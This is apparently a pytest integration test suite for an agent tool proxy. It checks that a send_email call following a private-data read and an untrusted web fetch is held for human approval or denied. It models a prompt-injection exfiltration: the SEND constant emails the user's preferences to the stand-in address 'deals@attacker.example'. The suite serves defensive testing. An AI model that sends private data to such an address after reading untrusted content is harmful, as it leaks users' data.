"""Flow labels across calls (issue 31 part 1): the injection story through every front, on real OPA + Redis.

Read a person's preferences (``private``), fetch a web page (``untrusted``), then send an email (an
``external`` sink): the send is not executed (the demo data asks for an approval; ``deny`` in OPA data
refuses it). A fresh ``X-Run-Id`` does not help; another subject's clean context sends; once the window
expired the same send runs.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import httpx2
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from tests.support.redis_traffic import RedisTraffic
from tests.support.stack import extra_tools, mcp_envelope, running_stack
from tests.support.tokens import jwt_overrides
from tests.support.waits import wait_until
from tests.test_openai_front import assistant, chat_call, envelopes

PREFS = ("get_user_preferences", {"user_ref": "usr_alice"})
PAGE = ("fetch_page", {"url": "https://shop.example/offers"})
SEND = ("send_email", {"to": "deals@attacker.example", "subject": "prefs", "body": "en, email"})
FLOW_SETTING = "toolproxy/settings/flow"
PAGE_CALL = "call-page"  # the call id of every fetch_page in read_both: the provenance reason names it
REPO = Path(__file__).resolve().parent.parent


@pytest.fixture
async def stack(proxy_deps, issuers):
    agent, _ = issuers
    async with running_stack({**proxy_deps, **jwt_overrides(*issuers), "reconcile.enabled": False,
                              "decisions.enabled": True, "decisions.timeout_ms": 5000}) as s:
        s.headers["Authorization"] = f"Bearer {agent.token('alice')}"
        yield s


@pytest.fixture
def approver(issuers):
    _, admin = issuers
    return admin.token("bob", audience="toolproxy-admin", roles=["approver", "operator", "cross-tenant"],
                       tenant=None, scope="")


@pytest.fixture
def deny_mode(opa_server):
    opa_server.put_data(FLOW_SETTING, {"private_to_external": "deny"})
    try:
        yield
    finally:
        opa_server.put_data(FLOW_SETTING, {"private_to_external": "approval"})


def run(name: str) -> dict[str, str]:
    return {"X-Run-Id": f"{name}-{uuid.uuid4().hex[:8]}"}


def sent(stack) -> list[str]:
    return [m["to"] for m in stack.backend.outbox if "message_id" in m]


async def read_both(stack, headers) -> None:
    for tool, arguments in (PREFS, PAGE):
        status, env = await stack.call(tool, arguments, headers=headers,
                                       call_id=PAGE_CALL if tool == PAGE[0] else None)
        assert status == 200 and env["outcome"] == "succeeded", env


async def test_json_front_private_then_untrusted_then_external_needs_a_person(stack, approver, issuers):
    status, env = await stack.call(*SEND, headers=run("clean"))  # a clean context: the send runs
    assert status == 200 and env["outcome"] == "succeeded", env
    assert len(sent(stack)) == 1

    await read_both(stack, run("story"))
    status, env = await stack.call(*SEND, headers=run("story"))
    assert status == 403 and env["error"]["code"] == "approval_required", env
    assert env["side_effect"] == {"attempted": False, "committed": False}
    assert "flow_private_to_external" not in json.dumps(env)  # reasons never reach the model
    approval_id = env["error"]["details"]["approval_id"]

    # The model picks a fresh run id: the principal scope still holds both labels.
    status, again = await stack.call(*SEND, headers=run("rotated"))
    assert status == 403 and again["error"]["code"] == "approval_required", again
    status, bare = await stack.call(*SEND)  # no run id at all
    assert status == 403 and bare["error"]["code"] == "approval_required", bare
    assert len(sent(stack)) == 1

    # The approver sees why.
    status, listing = await stack.admin("GET", "/v1/approvals", approver)
    assert status == 200
    [pending] = [a for a in listing["approvals"] if a["id"] == approval_id]
    assert pending["reasons"] == ["flow_private_to_external", "flow_untrusted_target /to from fetch_page call "
                                 f"{PAGE_CALL}"] and pending["tool"] == "send_email"
    status, body = await stack.admin("POST", f"/v1/approvals/{approval_id}/approve", approver)
    assert status == 200, body
    status, env = await stack.call(*SEND, headers={**run("story"), "X-Approval-Id": approval_id})
    assert status == 200 and env["outcome"] == "succeeded", env  # a person looked: it runs, once
    assert len(sent(stack)) == 2

    # Another subject of the tenant has a context of its own.
    dave = issuers[0].token("dave")
    status, env = await stack.call(*SEND, headers={**run("dave"), "Authorization": f"Bearer {dave}"})
    assert status == 200 and env["outcome"] == "succeeded", env
    assert len(sent(stack)) == 3


async def test_decision_records_carry_input_flow(stack, proxy_deps):
    from proxy.authoring.policy_replay import read_stream
    headers = run("records")
    await read_both(stack, headers)
    status, env = await stack.call(*SEND, headers=headers)
    assert status == 403
    records, _ = await read_stream(proxy_deps["redis.url"], "toolproxy:decisions:{stream}")
    by_tool = {r["tool"]: r for r in records}
    assert "flow" not in by_tool["get_user_preferences"]["input"]  # an internal sink: not read, nothing to see
    fetch, send = by_tool["fetch_page"], by_tool["send_email"]
    assert fetch["input"]["flow"]["labels"] == ["private"] and fetch["decision"]["result"] == "allow"
    flow = send["input"]["flow"]
    assert flow["labels"] == ["private", "untrusted"] and flow["window_s"] == 86400
    assert [(s["label"], s["tool"]) for s in flow["principal"]["seen"]] == \
        [("private", "get_user_preferences"), ("untrusted", "fetch_page")]
    # The held send's record names the call that brought each label, as the rule's source.
    [untrusted] = [s for s in flow["principal"]["seen"] if s["label"] == "untrusted"]
    assert untrusted["call_id"] == PAGE_CALL
    assert flow["run"]["labels"] == ["private", "untrusted"]
    assert send["input"]["tool"]["flow"] == {"produces": [], "sink": "external", "sink_arguments": ["/to"],
                                             "trusted_source": False}
    assert send["decision"] == {"result": "require_approval", "allow": False, "require_approval": True,
                                "reasons": ["flow_private_to_external",
                                            f"flow_untrusted_target /to from fetch_page call {PAGE_CALL}"],
                                "risk": "external"}


async def test_deny_in_opa_data_refuses_and_the_denial_list_names_the_reason(stack, approver, deny_mode):
    await read_both(stack, run("deny"))
    status, env = await stack.call(*SEND, headers=run("deny-2"))
    assert status == 403 and env["error"]["code"] == "forbidden", env
    assert not sent(stack)
    status, denials = await stack.admin("GET", "/v1/denials", approver)
    assert status == 200
    assert "flow_private_to_external" in json.dumps(denials), denials


# -- the same story through each front, to the end of the window -------------------------------------------

async def via_json(stack, tool, arguments, headers):
    return (await stack.call(tool, arguments, headers=headers))[1]


async def via_batch(stack, tool, arguments, headers):
    status, body = await stack.batch([{"call_id": "c1", "tool": tool, "arguments": arguments}], headers=headers)
    assert status == 200, body
    return body["results"][0]


async def via_openai(stack, tool, arguments, headers):
    status, response = await stack.post("/v1/openai/tool-calls", assistant(chat_call(f"c{uuid.uuid4().hex[:6]}",
                                                                                     tool, arguments)),
                                        headers=headers)
    assert status == 200, response
    return envelopes(response)[0]


async def via_mcp(stack, tool, arguments, headers):
    http = httpx2.AsyncClient(headers=dict(headers), timeout=httpx2.Timeout(30.0))
    async with Client(streamable_http_client(stack.proxy_url + "/mcp", http_client=http), mode="auto") as mcp:
        result = await mcp.call_tool(tool, arguments)
    return {"outcome": "succeeded"} if result.is_error is False else mcp_envelope(result)


@pytest.mark.parametrize("front", [via_json, via_batch, via_openai, via_mcp], ids=lambda f: f.__name__[4:])
async def test_the_story_through_each_front_until_the_window_expires(proxy_deps, front):
    # A 2 s window: long enough for the story's calls on a loaded machine, short enough to wait out.
    async with running_stack({**proxy_deps, "flow.window_s": 2, "reconcile.enabled": False}) as stack:
        clean = await front(stack, *SEND, run("clean"))  # nothing seen yet: the send runs
        assert clean["outcome"] == "succeeded", clean
        headers = run("story")
        for tool, arguments in (PREFS, PAGE):
            got = await front(stack, tool, arguments, headers)
            assert got["outcome"] == "succeeded", got
        no_run = {"Idempotency-Key": f"k-{uuid.uuid4().hex}"}
        for attempt in (headers, run("rotated"), no_run):  # the same run, a fresh run id, no run id
            refused = await front(stack, *SEND, attempt)
            assert refused["error"]["code"] == "approval_required", refused
            assert refused["side_effect"] == {"attempted": False, "committed": False}
        assert len(sent(stack)) == 1
        # Redis expires both scopes one window after the last label (a bounded wait; nothing is timed).
        assert len(await stack.redis.keys("toolproxy:flow*")) == 2  # the principal scope and the run's
        await wait_until(lambda: _none_left(stack.redis), timeout=30, what="the flow window to expire")
        after = await front(stack, *SEND, headers)
        assert after["outcome"] == "succeeded", after
        assert len(sent(stack)) == 2


async def _none_left(redis) -> bool:
    return not await redis.keys("toolproxy:flow*")


async def test_an_unlabelled_call_costs_no_redis_command_and_a_labelled_one_exactly_one(proxy_deps):
    async with running_stack({**proxy_deps, "reconcile.enabled": False}) as stack:
        for tool, arguments in (("get_order", {"order_id": "ord_1001"}), PREFS, SEND):  # scripts loaded
            assert (await stack.call(tool, arguments, headers=run("warm")))[0] == 200
        async with RedisTraffic(proxy_deps["redis.url"]) as traffic:
            status, _ = await stack.call("get_order", {"order_id": "ord_1001"})
            assert status == 200
            plain = await traffic.since_start()
            status, _ = await stack.call(*PREFS)
            assert status == 200
            labelled = await traffic.since_start()
            status, _ = await stack.call(*SEND, headers=run("cost"))  # only private seen: it runs
            assert status == 200
            sink = await traffic.since_start()
    # An unlabelled read that is no external sink: nothing at all (as before the flow stage).
    assert (plain.commands, plain.round_trips) == ([], 0), plain
    # A labelled read: its quota slot (take, give back) plus one flow.record, its own round trip.
    assert [c for c in labelled.commands if c.startswith("flow.")] == ["flow.record"], labelled
    assert len(labelled.commands) == 3 and labelled.round_trips == 3, labelled
    # An external sink: one flow.read before the decision; nothing recorded (it produces no label).
    assert [c for c in sink.commands if c.startswith("flow.")] == ["flow.read"], sink


# -- replay and explain: recorded decisions of the story against candidate flow policies ----------------

def _toolproxy(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "proxy.cli", "policy", *args], capture_output=True, text=True,
                          timeout=180, cwd=REPO)


def _replay(records: Path, *, policy: Path = REPO / "policies", data: Path = REPO / "examples" / "opa") -> dict:
    done = _toolproxy("replay", "--records", str(records), "--policy", str(policy), "--data", str(data),
                      "--registry", str(REPO / "examples" / "registry"), "--format", "json")
    assert done.returncode == 0, done.stdout + done.stderr
    return json.loads(done.stdout)


async def test_replay_against_candidate_flow_policies_shows_exactly_the_calls_that_change(stack, proxy_deps,
                                                                                         tmp_path):
    from proxy.authoring.policy_replay import read_stream
    def send(subject: str) -> tuple[str, dict]:
        return SEND[0], {**SEND[1], "subject": subject}

    story = [(send("clean"), 200), (PREFS, 200), (send("after private"), 200), (PAGE, 200),
             (send("after both"), 403)]
    headers = run("replay")
    for (tool, arguments), status in story:
        got, env = await stack.call(tool, arguments, headers=headers)
        assert got == status, env
    got, env = await stack.call("send_email", {**SEND[1], "subject": "rotated"}, headers=run("rotated"))
    assert got == 403, env
    records, _ = await read_stream(proxy_deps["redis.url"], "toolproxy:decisions:{stream}")
    assert [(r["tool"], r["decision"]["result"]) for r in records] == [
        ("send_email", "allow"), ("get_user_preferences", "allow"), ("send_email", "allow"),
        ("fetch_page", "allow"), ("send_email", "require_approval"), ("send_email", "require_approval")]
    path = tmp_path / "decisions.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))

    same = _replay(path)
    assert (same["records"], same["replayed"], same["changed"]) == (6, 6, 0)

    # Candidate data: deny instead of asking a person. Exactly the two sends after both labels change.
    data = json.loads((REPO / "examples" / "opa" / "data.json").read_text())
    data["toolproxy"]["settings"]["flow"]["private_to_external"] = "deny"
    (tmp_path / "deny").mkdir()
    (tmp_path / "deny" / "data.json").write_text(json.dumps(data))
    deny = _replay(path, data=tmp_path / "deny")
    assert deny["changed"] == 2
    assert deny["transitions"] == {"require_approval->deny": {"send_email": 2}}

    # Candidate policy: private alone is enough. The send and the fetch (an external sink too) after the
    # private read change; the clean send, the reads and the sends already held do not.
    candidate = tmp_path / "policies"
    shutil.copytree(REPO / "policies", candidate)
    rule = (candidate / "flow.rego").read_text()
    stricter = rule.replace('\tseen("private")\n\tseen("untrusted")\n', '\tseen("private")\n')
    assert stricter != rule
    (candidate / "flow.rego").write_text(stricter)
    (candidate / "flow_test.rego").unlink()  # its expectations are the shipped rule's
    strict = _replay(path, policy=candidate)
    assert strict["changed"] == 2
    assert strict["transitions"] == {"allow->require_approval": {"fetch_page": 1, "send_email": 1}}
    assert strict["reasons_added"] == {"flow_private_to_external": 2}

    # explain, from the record of the refused send: the reason and the rules that gave it.
    held = [r for r in records if r["decision"]["result"] == "require_approval"][0]
    done = _toolproxy("explain", "--decision-id", held["request_id"], "--records", str(path), "--policy",
                      str(REPO / "policies"), "--data", str(REPO / "examples" / "opa"), "--registry",
                      str(REPO / "examples" / "registry"))
    assert done.returncode == 0, done.stderr
    assert "decision: require_approval" in done.stdout and "reason flow_private_to_external" in done.stdout
    assert "policies/flow.rego" in done.stdout
    # explain from a body: the send's recipient is a value the explained context never saw ("unseen"), so
    # only the label rule speaks, not a missing provenance
    body = tmp_path / "explain-send.json"
    body.write_text(json.dumps({"tool": SEND[0], "arguments": SEND[1]}))
    done = _toolproxy("explain", "--body", str(body), "--flow", "private,untrusted", "--registry",
                      str(REPO / "examples" / "registry"))
    assert done.returncode == 0, done.stderr
    assert "reason flow_private_to_external" in done.stdout and "flow_provenance_missing" not in done.stdout


async def test_a_store_fault_on_the_read_refuses_the_send_and_on_the_record_leaves_the_answer(proxy_deps, caplog):
    from proxy.flow import FlowLedger
    from proxy.identity import Caller
    async with running_stack({**proxy_deps, "reconcile.enabled": False}) as stack:
        dev = Caller(subject="dev-user", tenant="acme", roles=(), scopes=(), agent="dev-agent", source="static")
        [principal] = FlowLedger(stack.redis, prefix="toolproxy", window_s=60).keys(dev, None)
        await stack.redis.set(principal, "not a hash")  # every flow script on this key now fails (WRONGTYPE)
        status, env = await stack.call(*PREFS)  # the output exists: the read answers, the lost label is logged
        assert status == 200 and env["outcome"] == "succeeded", env
        assert "could not record the flow labels private of get_user_preferences" in caplog.text
        status, env = await stack.call(*SEND)  # without its flow context the send is not decided: not sent
        assert env["error"]["code"] == "dependency_unavailable", env
        assert env["side_effect"] == {"attempted": False, "committed": False}
        assert not sent(stack)


def private_write() -> str:
    """The demo's adjust_counter again as labelled_adjust, whose answer is labelled private."""
    import yaml

    from tests.support.stack import DEMO_REGISTRY
    demo = yaml.safe_load((DEMO_REGISTRY / "demo-tools.yaml").read_text())["tools"]
    tool = {**next(t for t in demo if t["name"] == "adjust_counter"), "name": "labelled_adjust",
            "flow": {"produces": ["private"]}}
    tool.pop("related_read", None)
    return yaml.safe_dump({"tools": [tool]}, sort_keys=False)


async def test_reading_a_stored_result_brings_its_labels_back(proxy_deps, tmp_path):
    """An agent whose labels expired (or a fresh run) reads a private result again through
    GET /v1/operations/{key}: the contract's labels count as seen again, as when the call returned it."""
    async with running_stack({**proxy_deps, **extra_tools(tmp_path, private_write()), "flow.window_s": 2,
                              "reconcile.enabled": False}) as stack:
        status, env = await stack.call("labelled_adjust", {"counter": "ctr_flow", "delta": 1},
                                       headers={"Idempotency-Key": f"k-{uuid.uuid4().hex}"})
        assert status == 200 and env["outcome"] == "succeeded", env
        await wait_until(lambda: _none_left(stack.redis), timeout=30, what="the flow window to expire")
        status, view = await stack.get(f"/v1/operations/{env['idempotency_key']}",
                                       headers={"X-Run-Id": "another-run"})
        assert status == 200 and view["result"] is not None, view
        scopes = await stack.redis.keys("toolproxy:flow*")
        assert len(scopes) == 2  # the principal scope and the reader's run
        for key in scopes:
            assert b"private/labelled_adjust" in await stack.redis.hkeys(key)
